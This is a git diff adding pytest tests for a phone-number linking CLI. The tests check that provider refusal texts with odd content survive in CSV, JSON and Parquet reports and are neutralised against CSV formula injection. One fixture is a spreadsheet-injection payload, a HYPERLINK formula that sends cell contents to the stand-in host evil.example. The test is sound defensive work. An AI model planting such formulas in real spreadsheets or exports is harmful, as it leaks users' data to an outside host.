@@ -4,15 +4,20 @@ in odd runs: a ``status`` run, an input bulk cannot read, a dry run whose plan f
 from __future__ import annotations
 
 import json
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
 import polars as pl
 import pytest
+from aiohttp import web
 from click.testing import CliRunner
 
 from bulk.cli import main
-from tests.conftest import write_csv
+from bulk.inputs import load_rows, neutralise_formula
+from tests.conftest import ThreadedSandbox, write_csv
+from tests.test_pipeline_e2e import FAST
+from tests.test_truth_e2e import behind_proxy
 
 
 @pytest.fixture(autouse=True)
@@ -70,3 +75,93 @@ def test_a_dry_run_whose_plan_fails_rows_exits_1_as_its_counts_say(tmp_path: Pat
     fine = write_csv(tmp_path / "ok.csv", "number,campaign", ["+14155559101,CUOGHIN"])
     code, summary = _run("link", str(fine), "--dry-run")
     assert code == 0 and summary["exit_code"] == 0, summary
+
+
+# --- provider texts in reports: every format keeps the row, CSV reads back as given -------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+TEXTS = {
+    "newline": "refused:\nsecond line\r\nthird",
+    "nul": "refused \x00 with a NUL",
+    "formula": FORMULA,
+    "long": "x" * 100_000,
+    "tab": "\trefused after a TAB",
+}
+
+
+def _refusing(text: str) -> Callable[[str, str, bytes], web.Response | None]:
+    body = json.dumps({"api_id": "x", "error": text}).encode()
+
+    def before(method: str, path: str, sent: bytes) -> web.Response | None:
+        if method == "POST" and "/Number" in path:
+            return web.Response(status=400, body=body, content_type="application/json")
+        return None
+
+    return before
+
+
+def _read(path: Path) -> pl.DataFrame:
+    if path.suffix == ".json":
+        return pl.read_json(path)
+    if path.suffix == ".parquet":
+        return pl.read_parquet(path)
+    return pl.read_csv(path, infer_schema=False)
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".json", ".parquet"])
+def test_a_refusal_text_of_any_shape_keeps_its_row_in_every_format(
+    suffix: str, tmp_path: Path, sandbox_factory: Callable[..., ThreadedSandbox]
+) -> None:
+    sb = sandbox_factory(seed=3)
+    for name, text in TEXTS.items():
+        src = write_csv(tmp_path / f"{name}.csv", "number,campaign,tag", ["+16505550190,CUOGHIN,t"])
+        report, failures = tmp_path / f"{name}.r{suffix}", tmp_path / f"{name}.f.csv"
+        with behind_proxy(sb, before=_refusing(text)) as proxied:
+            result = CliRunner().invoke(
+                main,
+                ["link", str(src), "--base-url", proxied.base_url, "--report", str(report),
+                 "--failures", str(failures), "--journal", str(tmp_path / f"{name}.j"), *FAST],
+                env=sb.env("plivo"),
+            )
+        assert result.exit_code == 1, (name, result.output)
+        row = _read(report).row(0, named=True)
+        assert row["outcome"] == "failed" and row["tag"] == "t", (name, row)
+        expected = f"{text} (api_id x)"
+        if suffix == ".csv":
+            expected = expected.replace("\x00", "\ufffd")  # no CSV reader takes a NUL
+            assert row["reason"] in (expected, "'" + expected), (name, row["reason"][:80])
+            assert not row["reason"].startswith(("=", "+", "-", "@", "\t", "\r")), name
+        else:
+            assert row["reason"] == expected, (name, row["reason"][:80])
+        again = load_rows(failures)  # re-fed as input: the row, its text as given
+        assert again.frame.get_column("e164").to_list() == ["+16505550190"]
+        # data cells keep the guard's ' when read back (only numbers and headers lose it)
+        assert again.frame.get_column("previous_reason").to_list() == [
+            neutralise_formula(expected.replace("\x00", "\ufffd"))
+        ], name
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".json", ".parquet"])
+def test_a_refusal_in_invalid_utf8_keeps_its_row_and_never_crashes(
+    suffix: str, tmp_path: Path, sandbox_factory: Callable[..., ThreadedSandbox]
+) -> None:
+    sb = sandbox_factory(seed=3)
+    body = b'{"api_id": "x", "error": "refused \\u00e9 \xff\xfe\xc3 bytes"}'
+
+    def before(method: str, path: str, sent: bytes) -> web.Response | None:
+        if method == "POST" and "/Number" in path:
+            return web.Response(status=400, body=body, content_type="application/json")
+        return None
+
+    src = write_csv(tmp_path / "in.csv", "number,campaign", ["+16505550190,CUOGHIN"])
+    report = tmp_path / f"r{suffix}"
+    with behind_proxy(sb, before=before) as proxied:
+        result = CliRunner().invoke(
+            main,
+            ["link", str(src), "--base-url", proxied.base_url, "--report", str(report),
+             "--journal", str(tmp_path / "j"), "--attempts", "2", *FAST],
+            env=sb.env("plivo"),
+        )
+    assert result.exit_code == 1, result.output
+    row = _read(report).row(0, named=True)
+    assert row["outcome"] in ("failed", "unknown") and row["reason"], row
